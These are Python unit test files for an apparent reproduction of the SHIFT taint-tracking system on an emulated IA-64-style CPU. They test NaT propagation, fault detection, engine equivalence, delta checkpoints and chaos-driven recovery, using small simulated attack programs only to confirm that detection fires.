        func main:
            movl r14 = 40
            movl r15 = 2
            add r16 = r14, r15
            {EXIT}
        endfunc
        """)
        assert cpu.read_gr(16) == 42

    def test_sub_wraps(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = 0
            movl r15 = 1
            sub r16 = r14, r15
            {EXIT}
        endfunc
        """)
        assert cpu.read_gr(16) == MASK64

    def test_signed_division(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = -7
            movl r15 = 2
            div r16 = r14, r15
            mod r17 = r14, r15
            {EXIT}
        endfunc
        """)
        assert to_signed(cpu.read_gr(16)) == -3
        assert to_signed(cpu.read_gr(17)) == -1

    def test_shifts(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = -8
            movl r15 = 1
            shr r16 = r14, r15
            shr.u r17 = r14, r15
            shl r18 = r15, r15
            {EXIT}
        endfunc
        """)
        assert to_signed(cpu.read_gr(16)) == -4
        assert cpu.read_gr(17) == (MASK64 - 7) >> 1
        assert cpu.read_gr(18) == 2

    def test_sign_extension(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = 0xff
            sxt1 r15 = r14
            zxt1 r16 = r14
            {EXIT}
        endfunc
        """)
        assert to_signed(cpu.read_gr(15)) == -1
        assert cpu.read_gr(16) == 0xFF

    def test_andcm(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = 0xff
            movl r15 = 0x0f
            andcm r16 = r14, r15
            {EXIT}
        endfunc
        """)
        assert cpu.read_gr(16) == 0xF0


class TestMemory:
    def test_store_load_roundtrip(self):
        addr = make_address(REGION_DATA, 0x1000)
        cpu = run_asm(f"""
        func main:
            movl r13 = {addr}
            movl r14 = 0x1122334455667788
            st8 [r13] = r14
            ld8 r15 = [r13]
            ld1 r16 = [r13]
            {EXIT}
        endfunc
        """)
        assert cpu.read_gr(15) == 0x1122334455667788
        assert cpu.read_gr(16) == 0x88  # little-endian low byte

    def test_subword_store(self):
        addr = make_address(REGION_DATA, 0x2000)
        cpu = run_asm(f"""
        func main:
            movl r13 = {addr}
            movl r14 = 0xabcd
            st2 [r13] = r14
            ld8 r15 = [r13]
            {EXIT}
        endfunc
        """)
        assert cpu.read_gr(15) == 0xABCD


class TestNaTSemantics:
    """The deferred-exception machinery SHIFT builds on (paper section 2.2)."""

    def test_speculative_load_from_invalid_address_sets_nat(self):
        bad = 1 << 60  # unimplemented bit set
        cpu = run_asm(f"""
        func main:
            movl r14 = {bad}
            ld8.s r14 = [r14]
            {EXIT}
        endfunc
        """)
        assert cpu.read_nat(14)
        assert cpu.read_gr(14) == 0

    def test_nat_propagates_through_alu(self):
        bad = 1 << 60
        cpu = run_asm(f"""
        func main:
            movl r14 = {bad}
            ld8.s r14 = [r14]
            movl r15 = 5
            add r16 = r15, r14
            mov r17 = r16
            {EXIT}
        endfunc
        """)
        assert cpu.read_nat(16)
        assert cpu.read_nat(17)

    def test_movl_clears_nat(self):
        bad = 1 << 60
        cpu = run_asm(f"""
        func main:
            movl r14 = {bad}
            ld8.s r14 = [r14]
            movl r14 = 3
            {EXIT}
        endfunc
        """)
        assert not cpu.read_nat(14)

    def test_settag_cleartag(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = 7
            settag r14
            mov r15 = r14
            cleartag r14
            {EXIT}
        endfunc
        """)
        assert not cpu.read_nat(14)
        assert cpu.read_nat(15)
        assert cpu.read_gr(14) == 7

    def test_compare_with_nat_clears_both_predicates(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = 1
            settag r14
            cmp.eq p6, p7 = r14, r14
            {EXIT}
        endfunc
        """)
        assert not cpu.pr[6]
        assert not cpu.pr[7]

    def test_taint_aware_compare_proceeds(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = 1
            settag r14
            tcmp.eq p6, p7 = r14, r14
            {EXIT}
        endfunc
        """)
        assert cpu.pr[6]
        assert not cpu.pr[7]

    def test_tnat(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = 1
            settag r14
            tnat p6, p7 = r14
            tnat p8, p9 = r15
            {EXIT}
        endfunc
        """)
        assert cpu.pr[6] and not cpu.pr[7]
        assert not cpu.pr[8] and cpu.pr[9]

    def test_chk_branches_to_recovery_on_nat(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = 1
            settag r14
            chk.s r14, recovery
            movl r20 = 111
            {EXIT}
        recovery:
            movl r20 = 222
            {EXIT}
        endfunc
        """)
        assert cpu.read_gr(20) == 222

    def test_chk_falls_through_without_nat(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = 1
            chk.s r14, recovery
            movl r20 = 111
            {EXIT}
        recovery:
            movl r20 = 222
            {EXIT}
        endfunc
        """)
        assert cpu.read_gr(20) == 111

    def test_spill_then_plain_load_clears_nat(self):
        """The paper's NaT-clearing trick (section 4.1)."""
        slot = make_address(REGION_DATA, 0x3000)
        cpu = run_asm(f"""
        func main:
            movl r14 = 99
            settag r14
            movl r13 = {slot}
            st8.spill [r13] = r14
            ld8 r14 = [r13]
            {EXIT}
        endfunc
        """)
        assert not cpu.read_nat(14)
        assert cpu.read_gr(14) == 99

    def test_spill_fill_preserves_nat(self):
        slot = make_address(REGION_DATA, 0x3000)
        cpu = run_asm(f"""
        func main:
            movl r14 = 99
            settag r14
            movl r13 = {slot}
            st8.spill [r13] = r14
            movl r14 = 0
            ld8.fill r14 = [r13]
            {EXIT}
        endfunc
        """)
        assert cpu.read_nat(14)
        assert cpu.read_gr(14) == 99


class TestNaTConsumptionFaults:
    def _expect_fault(self, text, kind):
        with pytest.raises(NaTConsumptionFault) as excinfo:
            run_asm(text)
        assert excinfo.value.kind == kind

    def test_tainted_load_address_faults(self):
        self._expect_fault(f"""
        func main:
            movl r14 = 4611686018427387904
            settag r14
            ld8 r15 = [r14]
            {EXIT}
        endfunc
        """, "load_addr")

    def test_tainted_store_address_faults(self):
        self._expect_fault(f"""
        func main:
            movl r14 = 4611686018427387904
            settag r14
            st8 [r14] = r0
            {EXIT}
        endfunc
        """, "store_addr")

    def test_plain_store_of_nat_value_faults(self):
        addr = make_address(REGION_DATA, 0x100)
        self._expect_fault(f"""
        func main:
            movl r13 = {addr}
            movl r14 = 5
            settag r14
            st8 [r13] = r14
            {EXIT}
        endfunc
        """, "store_value")

    def test_spill_store_of_nat_value_allowed(self):
        addr = make_address(REGION_DATA, 0x100)
        cpu = run_asm(f"""
        func main:
            movl r13 = {addr}
            movl r14 = 5
            settag r14
            st8.spill [r13] = r14
            {EXIT}
        endfunc
        """)
        assert cpu.halted

    def test_tainted_branch_move_faults(self):
        self._expect_fault(f"""
        func main:
            movl r14 = 16
            settag r14
            mov b6 = r14
            {EXIT}
        endfunc
        """, "branch_move")


class TestControlFlow:
    def test_loop(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = 10
            movl r16 = 0
        loop:
            add r16 = r16, r14
            adds r14 = -1, r14
            cmp.ne p6, p7 = r14, r0
            (p6) br.cond loop
            {EXIT}
        endfunc
        """)
        assert cpu.read_gr(16) == 55

    def test_call_and_return(self):
        cpu = run_asm(f"""
        func main:
            movl r32 = 20
            br.call b0 = double
            mov r20 = r8
            {EXIT}
        endfunc
        func double:
            add r8 = r32, r32
            br.ret b0
        endfunc
        """)
        assert cpu.read_gr(20) == 40

    def test_indirect_call(self):
        cpu = run_asm(f"""
        func main:
            movl r32 = 5
            br.call b0 = getfn
            mov b6 = r8
            br.call b0 = b6
            mov r20 = r8
            {EXIT}
        endfunc
        func getfn:
            movl r8 = 0
            br.ret b0
        endfunc
        """, setup=_patch_getfn)
        assert cpu.read_gr(20) == 15

    def test_predicated_off_instruction_is_noop(self):
        cpu = run_asm(f"""
        func main:
            movl r14 = 1
            cmp.eq p6, p7 = r14, r0
            (p6) movl r20 = 111
            (p7) movl r20 = 222
            {EXIT}
        endfunc
        """)
        assert cpu.read_gr(20) == 222

    def test_runaway_guard(self):
        with pytest.raises(RunawayError):
            run_asm(f"""
            func main:
            spin:
                br.cond spin
            endfunc
            """, max_instructions=1000)


def _patch_getfn(cpu):
    """Make getfn return the code address of the triple function."""
    from repro.cpu import code_address

    # Rewrite getfn to return the address of `triple` at runtime:
    # easier here to just append the function via a second program is
    # overkill -- instead we look up `getfn` and substitute the movl
    # immediate with the code address of a helper we add below.
    program = cpu.program
    # Add a `triple` function on the fly.
    from repro.isa import Instruction, GR, RET

    start = len(program.code)
    program.labels["triple"] = start
    program.code.append(Instruction("mul", outs=(GR(8),), ins=(GR(32),), imm=3))
    program.code.append(Instruction("br.ret", ins=(cpu.program.code[0].outs[0],) if False else (parse_b0(),)))
    program.functions["triple"] = (start, len(program.code))
    # Patch getfn's movl to load triple's code address.
    getfn_start, _ = program.functions["getfn"]
    movl = program.code[getfn_start]
    assert movl.op == "movl"
    movl.imm = code_address(start)


def parse_b0():
    from repro.isa import BR

    return BR(0)
