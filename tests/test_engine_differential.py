"""Differential tests: predecoded engine vs the reference step loop.

The predecoded engine (micro-op closures plus fused basic blocks, see
``repro.cpu.predecode``) must be *observably identical* to the
reference dispatch loop: same architectural results, bit-identical
``PerfCounters`` (including the creation order and contents of the
per-role cost buckets), the same faults at the same pcs, the same
security alerts, and the same trace-event streams.  Every test here
runs one workload under both engines and compares.
"""

import pytest

from repro.apps.spec import BENCHMARKS
from repro.core.shift import build_machine
from repro.cpu import CPU
from repro.cpu.faults import NaTConsumptionFault, RunawayError
from repro.isa import assemble
from repro.mem import REGION_DATA, SparseMemory, make_address
from repro.harness.runners import (
    PERF_OPTIONS,
    compiled_spec,
    compiled_webserver,
    spec_policy,
    webserver_policy,
)
from repro.apps.webserver import make_request, make_site
from repro.taint.policy import PolicyConfig
from tests.conftest import BYTE_STRICT

ENGINES = ("reference", "predecoded")

READ = "native int read(int fd, char *buf, int n);\n"

THREAD_DECLS = """
native int thread_create(int fn, int arg);
native int thread_join(int tid);
native void thread_yield();
"""


def assert_counters_identical(ref, pre):
    """Bit-identical PerfCounters, including RoleCost bucket order."""
    assert ref.snapshot() == pre.snapshot()
    assert ref.groups == pre.groups
    assert ref.branches_taken == pre.branches_taken
    # Bucket creation order is observable (dict iteration order feeds
    # the Figure 9 breakdown tables), so compare keys as lists.
    assert list(ref.pair_costs) == list(pre.pair_costs)
    for key, a in ref.pair_costs.items():
        b = pre.pair_costs[key]
        assert (a.slots, a.issue_cycles, a.stall_cycles) == (
            b.slots, b.issue_cycles, b.stall_cycles), key


def assert_alerts_identical(ref_machine, pre_machine):
    def strip(alerts):
        return [(a.policy_id, a.message, a.context, a.pc,
                 a.instruction_count) for a in alerts]
    assert strip(ref_machine.alerts) == strip(pre_machine.alerts)


def assert_traces_identical(ref_machine, pre_machine):
    def strip(machine):
        return [(type(e).__name__, vars(e))
                for e in machine.obs.tracer.events()]
    assert strip(ref_machine) == strip(pre_machine)


class TestSpecKernels:
    @pytest.mark.parametrize("config", ["none", "byte", "word-both"])
    def test_gzip_bit_identical(self, config):
        bench = BENCHMARKS["gzip"]
        options = PERF_OPTIONS[config]
        compiled = compiled_spec(bench, options, "test")
        data = bench.make_input("test")
        results = {}
        for engine in ENGINES:
            machine = build_machine(
                compiled, policy_config=spec_policy(False),
                files={"/data": data}, engine=engine)
            machine.run()
            results[engine] = machine
        ref, pre = results["reference"], results["predecoded"]
        assert ref.read_global("result") == pre.read_global("result")
        assert_counters_identical(ref.counters, pre.counters)
        assert_alerts_identical(ref, pre)

    def test_mcf_bit_identical(self):
        bench = BENCHMARKS["mcf"]
        compiled = compiled_spec(bench, PERF_OPTIONS["byte"], "test")
        data = bench.make_input("test")
        counters = {}
        for engine in ENGINES:
            machine = build_machine(
                compiled, policy_config=spec_policy(False),
                files={"/data": data}, engine=engine)
            machine.run()
            counters[engine] = machine.counters
        assert_counters_identical(counters["reference"],
                                  counters["predecoded"])


class TestWebserver:
    def test_served_and_counters_identical(self):
        compiled = compiled_webserver(PERF_OPTIONS["byte"])
        site = make_site((2,))
        machines = {}
        for engine in ENGINES:
            machine = build_machine(
                compiled, policy_config=webserver_policy(),
                files=dict(site), engine=engine)
            for _ in range(5):
                machine.net.add_request(make_request(2))
            served = machine.run(max_instructions=100_000_000)
            assert served == 5
            machines[engine] = machine
        assert_counters_identical(machines["reference"].counters,
                                  machines["predecoded"].counters)
        assert_alerts_identical(machines["reference"],
                                machines["predecoded"])


ATTACK = READ + """
char src[16];
int main() {
    read(0, src, 8);
    int *p = (int *)(src[0] * 65536);
    return *p;
}
"""


class TestSecurityDetection:
    def test_alert_records_identical(self):
        machines = {}
        faults = {}
        for engine in ENGINES:
            machine = build_machine(
                ATTACK, BYTE_STRICT, policy_config=PolicyConfig(),
                stdin=b"\x42", engine_mode="record", engine=engine)
            # Record mode logs the alert; the hardware fault still
            # terminates the guest on the fault path.
            with pytest.raises(NaTConsumptionFault) as excinfo:
                machine.run(max_instructions=5_000_000)
            machines[engine] = machine
            faults[engine] = excinfo.value
        assert faults["reference"].pc == faults["predecoded"].pc
        assert faults["reference"].kind == faults["predecoded"].kind
        ref, pre = machines["reference"], machines["predecoded"]
        assert len(ref.alerts) >= 1
        assert ref.alerts[0].policy_id == "L1"
        assert_alerts_identical(ref, pre)
        assert_counters_identical(ref.counters, pre.counters)

    def test_fault_pc_identical(self):
        faults = {}
        for engine in ENGINES:
            machine = build_machine(
                ATTACK, BYTE_STRICT, policy_config=PolicyConfig().disable("L1"),
                stdin=b"\x42", engine=engine)
            with pytest.raises(NaTConsumptionFault) as excinfo:
                machine.run(max_instructions=5_000_000)
            faults[engine] = (excinfo.value, machine)
        ref_fault, ref_machine = faults["reference"]
        pre_fault, pre_machine = faults["predecoded"]
        assert ref_fault.kind == pre_fault.kind
        assert ref_fault.pc == pre_fault.pc
        assert str(ref_fault.instr) == str(pre_fault.instr)
        assert ref_machine.cpu.pc == pre_machine.cpu.pc
        assert_counters_identical(ref_machine.counters,
                                  pre_machine.counters)


class TestTraceStreams:
    def test_taint_trace_events_identical(self):
        source = READ + """
        char buf[32];
        int main() {
            read(0, buf, 16);
            int acc = 0;
            for (int i = 0; i < 16; i = i + 1) { acc = acc + buf[i]; }
            return acc & 255;
        }
        """
        machines = {}
        for engine in ENGINES:
            machine = build_machine(
                source, PERF_OPTIONS["byte"], policy_config=PolicyConfig(),
                stdin=b"taint-me-please!", tracing=True, engine=engine)
            machine.exit_code = machine.run(max_instructions=5_000_000)
            machines[engine] = machine
        ref, pre = machines["reference"], machines["predecoded"]
        assert ref.exit_code == pre.exit_code
        assert len(ref.obs.tracer) > 0
        assert_traces_identical(ref, pre)
        assert_counters_identical(ref.counters, pre.counters)


EXIT = "break 0x100000"
_STORE_ADDR = make_address(REGION_DATA, 0x100)

#: One minimal trigger per NaTConsumptionFault kind (paper Table 1's
#: L1-L3 detection paths), asserted identical across both engines.
FAULT_PROGRAMS = {
    "load_addr": f"""
    func main:
        movl r14 = {_STORE_ADDR}
        settag r14
        ld8 r15 = [r14]
        {EXIT}
    endfunc
    """,
    "store_addr": f"""
    func main:
        movl r14 = {_STORE_ADDR}
        settag r14
        st8 [r14] = r0
        {EXIT}
    endfunc
    """,
    "store_value": f"""
    func main:
        movl r13 = {_STORE_ADDR}
        movl r14 = 7
        settag r14
        st8 [r13] = r14
        {EXIT}
    endfunc
    """,
    "branch_move": f"""
    func main:
        movl r14 = 16
        settag r14
        mov b6 = r14
        {EXIT}
    endfunc
    """,
    "ar_move": f"""
    func main:
        movl r14 = 255
        settag r14
        mov ar.unat = r14
        {EXIT}
    endfunc
    """,
}


def _exit_syscall(cpu):
    cpu.halted = True
    cpu.exit_code = cpu.read_gr(32)


def _asm_cpu(text, engine):
    return CPU(assemble(text), SparseMemory(),
               syscall_handler=_exit_syscall, engine=engine)


class TestFaultKindsDifferential:
    @pytest.mark.parametrize("kind", NaTConsumptionFault.KINDS)
    def test_every_kind_identical(self, kind):
        outcomes = {}
        for engine in ENGINES:
            cpu = _asm_cpu(FAULT_PROGRAMS[kind], engine)
            with pytest.raises(NaTConsumptionFault) as excinfo:
                cpu.run(max_instructions=1_000)
            fault = excinfo.value
            assert fault.kind == kind
            # Fault.at() attached the faulting pc and instruction.
            assert fault.pc >= 0
            assert fault.instr is not None
            outcomes[engine] = (fault.pc, str(fault.instr),
                                cpu.counters.snapshot())
        assert outcomes["reference"] == outcomes["predecoded"]

    def test_runaway_identical(self):
        text = f"""
        func main:
            movl r14 = 0
        loop:
            add r14 = r14, r14
            br loop
            {EXIT}
        endfunc
        """
        outcomes = {}
        for engine in ENGINES:
            cpu = _asm_cpu(text, engine)
            with pytest.raises(RunawayError):
                cpu.run(max_instructions=1_000)
            outcomes[engine] = cpu.counters.snapshot()
        assert outcomes["reference"] == outcomes["predecoded"]


class TestCheckpointDifferential:
    def test_rollback_resume_identical_across_engines(self):
        """checkpoint -> attack -> rollback -> resume, pinned across
        engines: registers, memory, taint pages and PerfCounters."""
        from repro.apps.webserver import (
            RESIL_WEBSERVER_SOURCE, make_request, make_site,
            overflow_request)
        from repro.core.shift import compile_protected
        from repro.taint.engine import SecurityAlert

        compiled = compile_protected(RESIL_WEBSERVER_SOURCE, BYTE_STRICT)
        site = make_site((2,))
        finals = {}
        for engine in ENGINES:
            machine = build_machine(
                compiled, policy_config=webserver_policy(),
                files=dict(site), engine=engine)
            machine.net.add_request(make_request(2))
            # Checkpoint mid-way through the clean request, then let a
            # late-arriving attack abort the run, roll back, drop the
            # attack, and drain the queue.
            machine.cpu.run_slice(1_000)
            assert not machine.cpu.halted
            snapshot = machine.checkpoint()
            machine.net.add_request(overflow_request())
            with pytest.raises(SecurityAlert):
                machine.cpu.run_slice(50_000_000)
            machine.restore(snapshot)
            machine.net.pending.clear()
            machine.cpu.run_slice(50_000_000)
            assert machine.cpu.halted
            pages = {pno: bytes(pg)
                     for pno, pg in machine.memory._pages.items()
                     if any(pg)}
            finals[engine] = (
                list(machine.cpu.gr), list(machine.cpu.nat),
                list(machine.cpu.pr), machine.cpu.pc,
                machine.counters.snapshot(),
                list(machine.counters.pair_costs), pages)
            assert machine.alerts and machine.alerts[0].policy_id == "L1"
        assert finals["reference"] == finals["predecoded"]


class TestThreads:
    def test_threaded_run_identical(self):
        source = THREAD_DECLS + """
        int work(int x) {
            int acc = 0;
            for (int i = 0; i < 200; i = i + 1) { acc = acc + x; }
            return acc;
        }
        int main() {
            int a = thread_create((int)&work, 3);
            int b = thread_create((int)&work, 5);
            return thread_join(a) + thread_join(b);
        }
        """
        machines = {}
        for engine in ENGINES:
            machine = build_machine(source, thread_quantum=97, engine=engine)
            machine.exit_code = machine.run(max_instructions=50_000_000)
            machines[engine] = machine
        ref, pre = machines["reference"], machines["predecoded"]
        assert ref.exit_code == pre.exit_code == 1600
        assert_counters_identical(ref.counters, pre.counters)
