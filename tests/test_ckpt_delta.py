"""Copy-on-write delta checkpoints: dirty-page tracking soundness,
chain capture/restore, and delta-vs-full supervisor equivalence."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.apps.webserver import (
    make_request,
    overflow_request,
    runaway_request,
    traversal_request,
)
from repro.compiler.instrument import ShiftOptions
from repro.harness.runners import build_web_machine
from repro.mem import PAGE_SIZE, REGION_DATA, SparseMemory, make_address
from repro.resil import DeltaCheckpoint, MachineCheckpoint
from repro.taint.bitmap import TaintMap, pack_flags
from tests.test_resil import _machine_state

ENGINES = ("reference", "predecoded")
ATTACK_OPTIONS = ShiftOptions(granularity=1)
WATCHDOG = 2_000_000

BASE = make_address(REGION_DATA, 0x8000)

#: (kind, page-spanning offset, length, value) — enough entropy to hit
#: multi-page writes, tag-space pages and page-boundary straddles.
_operations = st.lists(
    st.tuples(
        st.sampled_from(["store", "blob", "taint", "clear", "import"]),
        st.integers(min_value=0, max_value=4 * PAGE_SIZE - 64),
        st.integers(min_value=1, max_value=64),
        st.integers(min_value=0, max_value=(1 << 64) - 1),
    ),
    min_size=1,
    max_size=25,
)


def _image(mem):
    """Full page image (the oracle the dirty set is judged against)."""
    return {pno: bytes(pg) for pno, pg in mem._pages.items()}


def _apply(mem, taint_map, op):
    kind, offset, length, value = op
    addr = BASE + offset
    if kind == "store":
        size = 1 << (value % 4)  # 1, 2, 4 or 8 bytes
        mem.store(addr, size, value & ((1 << (8 * size)) - 1))
    elif kind == "blob":
        blob = bytes((value + i) & 0xFF for i in range(length))
        mem.write_bytes(addr, blob)
    elif kind == "taint":
        taint_map.set_range(addr, length, True)
    elif kind == "clear":
        taint_map.set_range(addr, length, False)
    else:  # import: authoritative per-byte tag vector
        flags = [bool((value >> (i % 64)) & 1) for i in range(length)]
        taint_map.import_range(addr, length, pack_flags(flags))


class TestDirtyTracking:
    """The SparseMemory dirty set is a sound, sufficient restore set."""

    @settings(max_examples=30, deadline=None)
    @given(ops=_operations, granularity=st.sampled_from([1, 8]))
    def test_dirty_set_matches_page_diff_oracle(self, ops, granularity):
        """Every page differing from the base image is dirty, and
        rewriting *only* dirty pages restores the base bit-for-bit —
        exactly what delta capture + restore relies on."""
        mem = SparseMemory()
        taint_map = TaintMap(mem, granularity)
        # A non-trivial base: data and live tags to overwrite/clear.
        mem.write_bytes(BASE, bytes(range(96)))
        mem.write_bytes(BASE + 2 * PAGE_SIZE, b"\xAB" * 32)
        taint_map.set_range(BASE + 8, 24, True)
        base = _image(mem)
        mem.begin_epoch()

        for op in ops:
            _apply(mem, taint_map, op)

        dirty = set(mem.dirty_pages())
        zero = bytes(PAGE_SIZE)
        for pno in set(base) | set(mem._pages):
            now = bytes(mem._pages[pno]) if pno in mem._pages else zero
            if now != base.get(pno, zero):
                assert pno in dirty, f"page {pno} changed but not dirty"

        # Sufficiency: undo exactly the dirty pages -> base image.
        for pno in dirty:
            if pno in mem._pages:
                mem._pages[pno][:] = base.get(pno, zero)
        for pno in set(base) | set(mem._pages):
            now = bytes(mem._pages[pno]) if pno in mem._pages else zero
            assert now == base.get(pno, zero)

    def test_loads_never_dirty_and_stores_dirty_once(self):
        mem = SparseMemory()
        mem.begin_epoch()
        mem.load(BASE, 8)
        mem.read_bytes(BASE + PAGE_SIZE, 64)
        assert mem.dirty_count() == 0
        for i in range(100):
            mem.store(BASE + i, 1, i & 0xFF)
        assert mem.dirty_count() == 1  # same page, counted once

    def test_epoch_tokens_are_unique_and_rebind_keeps_them_so(self):
        mem = SparseMemory()
        first = mem.begin_epoch()
        second = mem.begin_epoch()
        assert second > first
        # A migrated-in chain may carry a *larger* token than this
        # memory ever issued; rebind must keep future tokens above it.
        mem.rebind_epoch(second + 10)
        assert mem.dirty_epoch == second + 10
        assert mem.begin_epoch() > second + 10
        assert mem.dirty_count() == 0


def _recover_machine(engine, *, clean=4, attacks=(), mode="recover"):
    machine = build_web_machine(
        "resil", ATTACK_OPTIONS,
        engine_mode=mode,
        recover_watchdog=WATCHDOG if mode == "recover" else None,
        engine=engine,
    )
    attacks = list(attacks)
    for i in range(clean):
        machine.net.add_request(make_request(4))
        if i < len(attacks):
            machine.net.add_request(attacks[i])
    return machine


class TestDeltaChain:
    @pytest.mark.parametrize("engine", ENGINES)
    def test_chain_restore_walks_backwards_exactly(self, engine):
        """base -> delta1 -> delta2: restoring any node (newest first,
        then older slow-path nodes) reproduces the state at capture."""
        machine = _recover_machine(engine, clean=6, mode="raise")
        machine.cpu.run_slice(3_000)
        base = MachineCheckpoint.capture(machine)
        state0 = _machine_state(machine)

        machine.cpu.run_slice(4_000)
        delta1 = DeltaCheckpoint.capture(machine, base)
        state1 = _machine_state(machine)

        machine.cpu.run_slice(4_000)
        delta2 = DeltaCheckpoint.capture(machine, delta1)
        state2 = _machine_state(machine)

        assert delta2.chain_length == 3
        assert state0 != state1 != state2
        assert not machine.cpu.halted
        machine.cpu.run_slice(3_000)  # diverge past the tip

        delta2.restore(machine)
        assert _machine_state(machine) == state2
        delta1.restore(machine)  # older node: slow-path chain walk
        assert _machine_state(machine) == state1
        base.restore(machine)
        assert _machine_state(machine) == state0

    @pytest.mark.parametrize("engine", ENGINES)
    def test_delta_cost_scales_with_touched_not_resident_pages(self, engine):
        """A full snapshot pays for the resident set; a delta pays only
        for pages the window touched.  Seed a large resident block the
        guest never writes: the full capture carries it, deltas don't."""
        machine = _recover_machine(engine, clean=6, mode="raise")
        machine.memory.write_bytes(
            BASE + 16 * PAGE_SIZE, b"\x5A" * (32 * PAGE_SIZE))
        machine.cpu.run_slice(3_000)
        base = MachineCheckpoint.capture(machine)
        machine.cpu.run_slice(4_000)
        assert not machine.cpu.halted
        delta = DeltaCheckpoint.capture(machine, base)
        assert base.page_count >= 32
        assert 0 < delta.page_count < base.page_count // 4
        assert delta.byte_size == delta.page_count * PAGE_SIZE
        assert base.byte_size == base.page_count * PAGE_SIZE

    def test_delta_capture_demands_a_matching_epoch(self):
        machine = _recover_machine("predecoded", clean=2, mode="raise")
        machine.cpu.run_slice(3_000)
        base = MachineCheckpoint.capture(machine)
        machine.memory.begin_epoch()  # someone else reset the window
        with pytest.raises(ValueError):
            DeltaCheckpoint.capture(machine, base)

    def test_absorb_folds_a_delta_into_its_base(self):
        machine = _recover_machine("predecoded", clean=6, mode="raise")
        machine.cpu.run_slice(3_000)
        base = MachineCheckpoint.capture(machine)
        state0 = _machine_state(machine)
        machine.cpu.run_slice(4_000)
        assert not machine.cpu.halted
        delta = DeltaCheckpoint.capture(machine, base)
        state1 = _machine_state(machine)
        machine.cpu.run_slice(3_000)

        base.absorb(delta)
        base.restore(machine)
        assert _machine_state(machine) == state1 != state0


class TestDeltaVsFullSupervision:
    @pytest.mark.parametrize("engine", ENGINES)
    def test_recover_runs_bit_identical_under_both_schemes(self, engine):
        """use_delta on/off: same quarantines, same responses, same
        final machine state — deltas change cost, never behaviour."""
        def run(use_delta):
            machine = _recover_machine(
                engine, clean=4,
                attacks=(overflow_request(), traversal_request(),
                         runaway_request()))
            machine.resil.use_delta = use_delta
            machine.run()
            return machine

        with_delta = run(True)
        with_full = run(False)
        assert with_delta.resil.delta_captures > 0
        assert with_full.resil.delta_captures == 0
        assert _machine_state(with_delta) == _machine_state(with_full)
        assert bytes(with_delta.console.out) == bytes(with_full.console.out)
        assert (list(with_delta.net.quarantined)
                == list(with_full.net.quarantined))
        assert (len(with_delta.resil.incidents)
                == len(with_full.resil.incidents) == 3)

    def test_tight_chain_bound_folds_and_stays_correct(self):
        machine = _recover_machine(
            "predecoded", clean=4, attacks=(overflow_request(),))
        machine.resil.max_chain = 2
        machine.run()
        assert len(machine.resil.chain) <= 2
        assert len(machine.resil.incidents) == 1
        assert len(machine.net.quarantined) == 1


class TestCheckpointObservability:
    def test_metrics_expose_delta_accounting(self):
        machine = _recover_machine("predecoded", clean=5)
        machine.run()
        sup = machine.resil
        assert sup.full_captures >= 1
        assert sup.delta_captures >= 1
        assert sup.pages_captured > 0
        assert sup.bytes_captured == sup.pages_captured * PAGE_SIZE

        flat = machine.metrics().to_dict()
        assert flat["resil.capture_count"] == sup.checkpoints_taken
        assert flat["resil.full_captures"] == sup.full_captures
        assert flat["resil.delta_captures"] == sup.delta_captures
        assert flat["resil.checkpoint_pages"] == sup.pages_captured
        assert flat["resil.checkpoint_bytes"] == sup.bytes_captured
        assert flat["resil.chain_length"] == len(sup.chain)
        assert flat["resil.delta_ratio"] == pytest.approx(
            sup.delta_captures / sup.checkpoints_taken)

    def test_incident_records_the_restored_checkpoint(self):
        machine = _recover_machine(
            "predecoded", clean=3, attacks=(overflow_request(),))
        machine.run()
        (incident,) = machine.resil.incidents
        assert incident.checkpoint_kind in ("full", "delta")
        assert incident.checkpoint_pages > 0
        assert (incident.checkpoint_bytes
                == incident.checkpoint_pages * PAGE_SIZE)
