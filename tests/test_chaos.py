"""Chaos layer: schedules, the request journal, recovery, degradation."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.chaos import (
    ChaosEvent,
    ChaosSchedule,
    RecoveryPolicy,
    Replica,
    ReplicaStore,
    RequestJournal,
    WorkerChaos,
)
from repro.fleet.driver import FleetConfig, build_worker
from repro.fleet.frontend import FleetFrontend
from repro.fleet.wire import TaggedMessage, WireFormatError
from repro.resil.migrate import blob_watermark, pack_worker
from repro.resil.transient import RetryPolicy
from repro.serve import ServeRequest, ServeSim, ServiceCost
from repro.taint.bitmap import pack_flags


class StubModel:
    """A service model with scripted budgets — no Machines involved."""

    def __init__(self, cycles=100.0, boot=50.0, overrides=None):
        self.cycles = cycles
        self.boot_cycles = boot
        self.overrides = overrides or {}

    def cost(self, payload, tags=None):
        return self.overrides.get(
            bytes(payload), ServiceCost(cycles=self.cycles, outcome="served",
                                        response_sha="aa" * 32))


def steady_requests(n, spacing=50.0, payload=b"GET /x"):
    return [ServeRequest(index=i, session=i, arrival=i * spacing,
                         payload=payload) for i in range(n)]


def chaos_sim(chaos=None, *, workers=2, shed_limit=None,
              recovery=None, **kw):
    return ServeSim(workers=workers, seed=3, routing="round_robin",
                    service_model=StubModel(), chaos=chaos,
                    recovery=recovery or RecoveryPolicy(
                        heartbeat_interval=10.0, miss_threshold=3,
                        replicate_every=2, replication_cycles=4.0,
                        rehydrate_cycles=8.0),
                    shed_limit=shed_limit, migration_cycles=8.0, **kw)


class TestChaosSchedule:
    def test_campaign_is_deterministic(self):
        a = ChaosSchedule.campaign(7, workers=3, duration=1e6,
                                   crashes=2, stalls=1, stall_cycles=500.0)
        b = ChaosSchedule.campaign(7, workers=3, duration=1e6,
                                   crashes=2, stalls=1, stall_cycles=500.0)
        assert a.events == b.events
        assert a.describe() == b.describe()

    def test_campaign_times_avoid_the_edges(self):
        sched = ChaosSchedule.campaign(1, workers=2, duration=1e6,
                                       crashes=4)
        for event in sched.events:
            assert 0.1 * 1e6 < event.time < 0.9 * 1e6

    def test_campaign_walks_workers_round_robin(self):
        sched = ChaosSchedule.campaign(5, workers=2, duration=1e6,
                                       crashes=3)
